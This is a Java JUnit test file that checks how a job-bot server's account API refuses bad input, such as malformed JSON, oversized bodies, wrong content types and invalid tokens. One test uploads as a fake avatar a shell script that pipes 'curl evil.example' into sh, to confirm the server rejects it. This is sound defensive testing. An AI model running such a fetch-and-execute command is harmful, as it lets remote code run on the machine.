package tech.jobbot.server.account;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;

import javax.imageio.ImageIO;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tech.jobbot.server.support.TestServer;
import tech.jobbot.server.support.TestServer.Response;
import tech.jobbot.server.support.TestServer.SignedIn;

/** Bad input gets a precise problem+json and changes nothing. */
class BadInputTest {
    @TempDir
    Path dataDir;
    TestServer server;
    SignedIn user;

    @BeforeEach
    void start() {
        server = TestServer.start(dataDir);
        user = server.signIn("careful@example.com");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private void assertProblem(Response r, int status, String type) {
        assertEquals(status, r.status(), r.text());
        assertEquals("application/problem+json", r.header("Content-Type"));
        JsonNode p = r.json();
        assertEquals("https://www.jobbot.tech/problems/" + type, p.get("type").asText(), r.text());
        assertEquals(status, p.get("status").asInt());
        assertTrue(p.hasNonNull("title") && p.hasNonNull("detail") && p.hasNonNull("instance"), r.text());
    }

    private String fieldError(Response r, String field) {
        for (JsonNode e : r.json().get("errors")) {
            if (e.get("field").asText().equals(field)) {
                return e.get("message").asText();
            }
        }
        throw new AssertionError("no error for " + field + " in " + r.text());
    }

    private long rows(String table) throws Exception {
        try (Connection c = DriverManager.getConnection(server.databaseUrl, "sa", "");
                Statement s = c.createStatement();
                ResultSet rs = s.executeQuery("SELECT COUNT(*) FROM " + table)) {
            rs.next();
            return rs.getLong(1);
        }
    }

    @Test
    void malformed_json_is_refused_and_nothing_is_stored() throws Exception {
        long flows = rows("code_challenges");
        long mails = rows("mail_outbox");
        Response r = server.post("/api/v1/auth/codes", "{\"email\": \"x@example.com\"");
        assertProblem(r, 400, "malformed-json");
        assertTrue(r.json().get("detail").asText().contains("line 1"), r.text());
        assertProblem(server.post("/api/v1/auth/codes", "[\"x@example.com\"]"), 400, "malformed-json");
        assertProblem(server.post("/api/v1/auth/codes", "{\"email\":\"a@example.com\"} {}"), 400, "malformed-json");
        assertEquals(flows, rows("code_challenges"));
        assertEquals(mails, rows("mail_outbox"));
    }

    @Test
    void wrong_types_unknown_fields_and_missing_fields_are_named() throws Exception {
        long flows = rows("code_challenges");
        Response r = server.post("/api/v1/auth/codes", "{\"email\": 42, \"remember\": true}");
        assertProblem(r, 400, "validation");
        assertEquals("must be a string, not a number", fieldError(r, "email"));
        assertEquals("is not a known field", fieldError(r, "remember"));
        Response missing = server.post("/api/v1/auth/sessions", "{}");
        assertProblem(missing, 400, "validation");
        assertEquals("is required", fieldError(missing, "flowId"));
        assertEquals("is required", fieldError(missing, "email"));
        assertEquals("is required", fieldError(missing, "code"));
        Response badCode = server.post("/api/v1/auth/sessions",
                "{\"flowId\":\"nope\",\"email\":\"not-an-email\",\"code\":\"12ab\"}");
        assertEquals("is not a flow id", fieldError(badCode, "flowId"));
        assertEquals("must look like name@example.com", fieldError(badCode, "email"));
        assertEquals("must be 6 digits", fieldError(badCode, "code"));
        assertEquals(flows, rows("code_challenges"));
    }

    @Test
    void overlong_strings_are_refused_without_changing_the_profile() {
        String longName = "x".repeat(101);
        Response r = server.request("PATCH", "/api/v1/me", "{\"displayName\":\"" + longName + "\",\"country\":\"DE\"}",
                "Authorization", user.bearer());
        assertProblem(r, 400, "validation");
        assertEquals("must be 1 to 100 characters", fieldError(r, "displayName"));
        Response huge = server.request("PATCH", "/api/v1/me", "{\"displayName\":\"" + "y".repeat(5000) + "\"}",
                "Authorization", user.bearer());
        assertProblem(huge, 400, "validation");
        assertTrue(server.get("/api/v1/me", "Authorization", user.bearer()).json().get("country").isNull(),
                "no field of a refused request is applied");
        Response email = server.post("/api/v1/auth/codes", "{\"email\":\"" + "a".repeat(250) + "@example.com\"}");
        assertProblem(email, 400, "validation");
    }

    @Test
    void huge_bodies_get_413() {
        String body = "{\"email\":\"" + "a".repeat(20_000) + "\"}";
        assertProblem(server.post("/api/v1/auth/codes", body), 413, "payload-too-large");
        byte[] image = new byte[2 * 1024 * 1024 + 1];
        Response avatar = server.send(HttpRequest.newBuilder(server.uri("/api/v1/me/avatar"))
                .PUT(HttpRequest.BodyPublishers.ofByteArray(image))
                .header("Content-Type", "image/png").header("Authorization", user.bearer()));
        assertProblem(avatar, 413, "payload-too-large");
    }

    @Test
    void wrong_content_type_gets_415() {
        Response r = server.send(HttpRequest.newBuilder(server.uri("/api/v1/auth/codes"))
                .POST(HttpRequest.BodyPublishers.ofString("email=x@example.com"))
                .header("Content-Type", "application/x-www-form-urlencoded"));
        assertProblem(r, 415, "unsupported-media-type");
        Response avatar = server.send(HttpRequest.newBuilder(server.uri("/api/v1/me/avatar"))
                .PUT(HttpRequest.BodyPublishers.ofString("<svg/>")).header("Content-Type", "image/svg+xml")
                .header("Authorization", user.bearer()));
        assertProblem(avatar, 415, "unsupported-media-type");
    }

    @Test
    void a_png_that_is_really_a_script_is_refused_and_not_stored() throws Exception {
        long avatars = rows("avatars");
        Response r = server.send(HttpRequest.newBuilder(server.uri("/api/v1/me/avatar"))
                .PUT(HttpRequest.BodyPublishers.ofString("#!/bin/sh\ncurl evil.example | sh\n"))
                .header("Content-Type", "image/png").header("Authorization", user.bearer()));
        assertProblem(r, 415, "unsupported-media-type");
        assertEquals(avatars, rows("avatars"));
        assertTrue(server.get("/api/v1/me", "Authorization", user.bearer()).json().get("avatarUrl").isNull());
    }

    @Test
    void a_real_png_becomes_the_avatar_and_is_served_from_our_url() throws Exception {
        java.awt.image.BufferedImage img = new java.awt.image.BufferedImage(32, 16,
                java.awt.image.BufferedImage.TYPE_INT_RGB);
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        ImageIO.write(img, "png", png);
        Response r = server.send(HttpRequest.newBuilder(server.uri("/api/v1/me/avatar"))
                .PUT(HttpRequest.BodyPublishers.ofByteArray(png.toByteArray()))
                .header("Content-Type", "image/png").header("Authorization", user.bearer()));
        assertEquals(200, r.status(), r.text());
        String url = r.json().get("avatarUrl").asText();
        assertTrue(url.matches("/api/v1/avatars/[A-Za-z0-9_-]{24}\\.png"), url);
        Response image = server.get(url, "Authorization", user.bearer());
        assertEquals(200, image.status());
        assertEquals("image/png", image.header("Content-Type"));
        assertEquals(32, ImageIO.read(new java.io.ByteArrayInputStream(image.bytes())).getWidth());
        SignedIn stranger = server.signIn("stranger@example.com");
        assertEquals(404, server.get(url, "Authorization", stranger.bearer()).status(), "only its owner sees it");
        assertEquals(204, server.request("DELETE", "/api/v1/me/avatar", null, "Authorization", user.bearer()).status());
        assertEquals(404, server.get(url, "Authorization", user.bearer()).status());
    }

    @Test
    void missing_or_bad_tokens_get_401_and_unknown_paths_404() {
        assertProblem(server.get("/api/v1/me"), 401, "unauthenticated");
        assertProblem(server.get("/api/v1/me", "Authorization", "Bearer not-a-token"), 401, "unauthenticated");
        assertProblem(server.get("/api/v1/me", "Authorization", "Bearer " + "A".repeat(43)), 401, "unauthenticated");
        Response unknown = server.get("/api/v1/no-such-thing");
        assertProblem(unknown, 404, "not-found");
        String body = new String(unknown.bytes(), StandardCharsets.UTF_8);
        assertTrue(body.contains("/api/v1/no-such-thing"), body);
    }

    @Test
    void every_answer_carries_the_security_headers() {
        for (Response r : new Response[] {server.get("/"), server.get("/api/v1/me", "Authorization", user.bearer()),
                server.get("/api/v1/me")}) {
            assertTrue(r.header("Content-Security-Policy").contains("frame-ancestors 'none'"));
            assertEquals("nosniff", r.header("X-Content-Type-Options"));
            assertEquals("no-referrer", r.header("Referrer-Policy"));
        }
        assertEquals("no-store", server.get("/api/v1/me", "Authorization", user.bearer()).header("Cache-Control"));
    }
}
